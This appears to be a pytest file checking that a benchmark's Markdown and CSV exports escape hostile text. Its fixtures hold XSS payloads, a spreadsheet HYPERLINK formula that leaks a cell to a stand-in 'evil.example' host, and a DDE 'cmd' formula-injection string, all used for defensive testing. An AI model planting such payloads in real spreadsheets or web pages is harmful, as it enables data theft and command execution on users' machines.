"""Exports are safe with hostile text: reasons and names with `|`, line breaks, raw HTML,
Markdown links and spreadsheet formulas neither break the Markdown table nor run as markup
or formulas, and the text itself is still there to read."""

import csv
import io
import re

from skycity_bench.inputs.rubric import load_rubric
from skycity_bench.judging.sheet_totals import Review, build_sheet, csv_cell, md_text, rank, to_csv, to_markdown

R = load_rubric()
AUTO, AUTO2 = [i.id for i in R.items if not i.graded][:2]
GRADED = next(i.id for i in R.items if i.graded)
HOSTILE = "a | b\nsecond line\r\n<script>alert(1)</script> [x](javascript:alert(2)) <img src=x onerror=y>"
FORMULA_LABEL = '=HYPERLINK("http://evil.example/?leak="&A1,"open").html'


def hostile_sheet(label=None):
    report = {
        "items": {
            it.id: ({"points": None, "status": "review"} if it.graded else {"points": it.points, "status": "pass"})
            for it in R.items
        }
    }
    report["items"][AUTO2] = {"points": None, "status": "untested", "evidence": {"reason": "@SUM(1+1) " + HOSTILE}}
    reviews = [
        Review("=cmd|' /C calc'!A0", GRADED, "grade", R.item(GRADED).points, 1.0, created_at="2026-01-01"),
        Review("+rev", AUTO, "override", 0.0, reason=HOSTILE, created_at="2026-01-01"),
    ]
    return build_sheet(R, "c-00000000000a", report, reviews, label=label)


def table_rows(md: str) -> list[list[str]]:
    """The Markdown table rows as cells, splitting on unescaped pipes (as GFM does)."""
    return [re.split(r"(?<!\\)\|", line)[1:-1] for line in md.splitlines() if line.startswith("|")]


def test_should_keep_every_markdown_row_whole_and_show_html_as_text():
    md = to_markdown([hostile_sheet(label="gpt | <b>x</b>.html")], rank([hostile_sheet()]))
    assert "<script" not in md and "<img" not in md and "<b>" not in md.replace("<br>", "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md  # shown, not run
    assert "\\[x\\](javascript:alert(2))" in md  # no live link
    cells = table_rows(md)
    widths = {len(c) for c in cells}
    assert widths == {6, 5}, widths  # sheet rows and agreement rows
    override_line = next(c for c in cells if AUTO in c[0])
    assert "a \\| b<br>second line<br>&lt;script&gt;" in override_line[5]  # the reason, in its own cell
    # the missing list: one bullet per missing item, a line break cannot start a new line
    assert not any(line.startswith(("second line", "<", "&lt;")) for line in md.splitlines())
    bullet = next(line for line in md.splitlines() if line.startswith(f"- {AUTO2}: "))
    assert "@SUM(1+1) a \\| b<br>second line<br>" in bullet  # the bench's reason, one line
    assert "gpt \\| &lt;b&gt;x&lt;/b&gt;.html" in md  # a label too


def test_should_escape_markdown_text_by_rule():
    assert md_text("a|b") == "a\\|b"
    assert md_text("x\ny\r\nz\rw") == "x<br>y<br>z<br>w"
    assert md_text("<script>") == "&lt;script&gt;" and md_text("a & b") == "a &amp; b"
    assert md_text("*b* _i_ `c` [l]") == "\\*b\\* \\_i\\_ \\`c\\` \\[l\\]"


def test_should_neutralise_formulas_at_a_csv_cells_start():
    text = to_csv([hostile_sheet(label=FORMULA_LABEL)])
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for r in rows for c in r]
    assert any(c == "'" + FORMULA_LABEL for c in cells)  # kept, as text
    for c in cells:
        starts_formula = c[:1] in ("=", "+", "-", "@", "\t", "\r") or c.lstrip(" ")[:1] in ("=", "+", "-", "@")
        assert not starts_formula or re.fullmatch(r"[+-]?\d+(\.\d*)?", c), c
    assert next(r for r in rows if r[3] == GRADED)[9] == "'=cmd|' /C calc'!A0 " + f"{R.item(GRADED).points:g}"
    assert HOSTILE in next(r for r in rows if r[3] == AUTO)[9]  # a cell may hold newlines: quoted


def test_should_prefix_each_formula_start_and_leave_numbers_and_text_alone():
    for bad in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "  =x"):
        assert csv_cell(bad) == "'" + bad
    for ok in ("1.5", "-0.25", "+3", "12", "ann", "—", "", "camera.motion"):
        assert csv_cell(ok) == ok
